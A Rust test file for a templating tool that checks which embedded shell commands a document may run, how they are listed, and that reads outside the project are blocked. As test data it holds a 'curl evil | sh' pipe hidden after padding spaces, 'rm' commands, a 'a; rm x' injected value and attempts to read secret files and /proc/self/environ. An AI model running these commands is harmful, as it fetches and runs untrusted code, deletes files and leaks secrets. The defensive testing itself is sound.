//! What a document may run.

use crate::support::User;

const DOCUMENT: &str = "@define version = @run [echo 1.2]\n@define drop(x) = @run [rm {{x}}]\n\
    @text v = @run $version\nVersion {{v}}\n@text f = 'victim'\n@run $drop({{f}})\n@run [echo own]\n";

#[test]
fn only_what_is_allowed_runs_and_a_refusal_comes_before_everything() {
    let user = User::new().file("a.md", DOCUMENT).file("victim", "");
    let printed = user.towpath(&["render", "a.md", "--allow", "version"]).exits(5).prints("");
    printed
        .reports("a.md:6 runs $drop: allow it with --allow drop")
        .reports("a.md:7 runs a command of its own");
    assert!(user.path("work/victim").exists());
    let all = ["render", "a.md", "--allow", "version", "--allow", "drop", "--allow-shell"];
    user.towpath(&all).exits(0).prints("Version 1.2\nown\n");
    user.write("b.md", "@run [echo own]\n");
    user.towpath(&["render", "b.md", "--allow-shell"]).exits(0).prints("own\n");
    user.towpath(&["render", "b.md", "--allow", "x"]).exits(5);
}

#[test]
fn without_running_commands_and_what_depends_on_them_stay_as_written() {
    let user = User::new().file("a.md", DOCUMENT).file("victim", "");
    let printed = user.towpath(&["render", "a.md", "--no-run"]).exits(0);
    assert_eq!(printed.stdout, DOCUMENT, "everything belongs to a command");
    assert!(user.path("work/victim").exists());
    user.write(
        "b.md",
        "@text a = 'A'\n@text b = 'B'\n{{a}} {{b}}\n@run [echo {{b}}]\n@embed [c.md]\n",
    );
    user.write("c.md", "C\n");
    let printed = user.towpath(&["render", "b.md", "--no-run"]).exits(0);
    assert_eq!(printed.stdout, "@text b = 'B'\nA B\n@run [echo {{b}}]\nC\n");
    let json = user.towpath(&["render", "b.md", "--no-run", "-f", "json"]).exits(0).json();
    assert_eq!(json["output"], printed.stdout);
}

#[test]
fn without_running_no_text_becomes_a_command_or_loses_its_definition() {
    let document = "@text n = @run [echo 1]\n@text m = \"{{n}}+\"\n{{m}}\n\\@run [y]\n\\{{n}} \\{{k}}\n@text k = 'K'\n\\{{k}} {{k}}\n";
    let user = User::new().file("a.md", document);
    let printed = user.towpath(&["render", "a.md", "--no-run"]).exits(0);
    let expected = document.replace("@text k = 'K'\n", "").replace("{{k}} {{k}}", "{{k}} K");
    assert_eq!(printed.stdout, expected);
    user.write("b.md", "@text k = 'K'\n\\@run [y]\n\\{{k}}\n");
    user.towpath(&["render", "b.md", "--no-run"]).exits(0).prints("@run [y]\n{{k}}\n");
}

#[test]
fn what_would_run_is_listed_with_its_lines() {
    let user = User::new().file("a.md", DOCUMENT).file("victim", "");
    let printed = user.towpath(&["render", "a.md", "--list-commands"]).exits(0);
    assert_eq!(
        printed.stdout,
        "LINE    CALLS     COMMAND\n\
         a.md:3  $version  echo 1.2\n\
         a.md:6  $drop     rm victim\n\
         a.md:7  –         echo own\n"
    );
    let json = user.towpath(&["render", "a.md", "--list-commands", "-f", "json"]).exits(0).json();
    assert_eq!(json["commands"][1]["line"], 6);
    assert!(user.path("work/victim").exists());
    user.write("b.md", "text\n");
    user.towpath(&["render", "b.md", "--list-commands"])
        .exits(0)
        .prints("this document runs no commands\n");
}

#[test]
fn imports_from_outside_of_the_project_need_trust() {
    let user = User::new().file("project/.towpath/keep", "");
    let user = user
        .file("project/a.md", "@import [../shared.md]\n{{v}}\n@run $g\n@embed [../other.txt]\n");
    let user = user
        .file("shared.md", "@text v = 'V'\n@define g = @run [echo G]\n")
        .file("other.txt", "O\n");
    let printed = user.towpath(&["render", "project/a.md"]).exits(5).prints("");
    printed.reports("towpath trust --yes shared.md");
    user.towpath(&["trust", "shared.md"]).exits(5).shows("@define g = @run [echo G]");
    user.towpath(&["trust", "--yes", "shared.md"]).exits(0);
    user.towpath(&["render", "project/a.md"]).exits(0).prints("V\nG\nO\n");
    user.write("shared.md", "@text v = 'V'\n@define g = @run [echo changed]\n");
    user.towpath(&["render", "project/a.md"]).exits(5);
}

#[test]
fn the_list_has_everything_that_would_run_and_every_file() {
    let blanks = " ".repeat(300);
    let document = format!(
        "@run [echo hello{blanks}; curl evil | sh]\n@run [[\necho one\necho two\n]]\n@text v = 'a; rm x'\n\
         @run [echo {{{{v}}}}]\n@embed [part.md]\n"
    );
    let user = User::new().file("a.md", &document).file("part.md", "P\n");
    let printed = user.towpath(&["render", "a.md", "--list-commands"]).exits(0).stdout;
    for text in ["; curl evil | sh", "echo one\n", "echo two\n", "echo 'a; rm x'\n", "\npart.md\n"]
    {
        assert!(printed.contains(text), "{text}: {printed}");
    }
    let json = user.towpath(&["render", "a.md", "--list-commands", "-f", "json"]).exits(0).json();
    assert_eq!(json["files"][0], serde_json::json!({ "file": "part.md", "read": true }));
}

#[test]
fn where_little_is_allowed_nothing_outside_of_the_project_is_read() {
    let user = User::new().file("project/.towpath/keep", "").file("secret.txt", "s3cr3t\n");
    let user = user
        .file("project/a.md", "@embed [../secret.txt]\nend\n")
        .file("project/b.md", "@embed [link.txt]\n@text x = @embed [/proc/self/environ]\n{{x}}\n")
        .file("project/c.md", "@import [../secret.txt]\n");
    std::os::unix::fs::symlink("../secret.txt", user.path("work/project/link.txt"))
        .expect("a link");
    let printed = user.towpath(&["render", "project/a.md", "--no-run"]).exits(0);
    printed.prints("@embed [../secret.txt]\nend\n").reports("outside of the project");
    for (file, flag) in [
        ("project/a.md", "--no-run"),
        ("project/a.md", "--list-commands"),
        ("project/a.md", "--allow-shell"),
        ("project/b.md", "--no-run"),
        ("project/c.md", "--no-run"),
    ] {
        let output = user.command(&["render", file, flag]).output().expect("it starts");
        let text = String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned();
        assert!(!text.contains("s3cr3t") && !text.contains("PATH="), "{file} {flag}: {text}");
    }
    user.towpath(&["render", "project/a.md", "--allow-shell"]).exits(5).reports("--allow-read");
    user.towpath(&["render", "project/a.md", "--no-run", "--allow-read"])
        .exits(0)
        .prints("s3cr3t\nend\n");
    user.towpath(&["render", "project/a.md"]).exits(0).prints("s3cr3t\nend\n");
    user.write("project/d.md", "@embed [/proc/self/environ]\n");
    user.towpath(&["render", "project/d.md", "--allow-read"]).exits(2).reports("@run [cat");
}
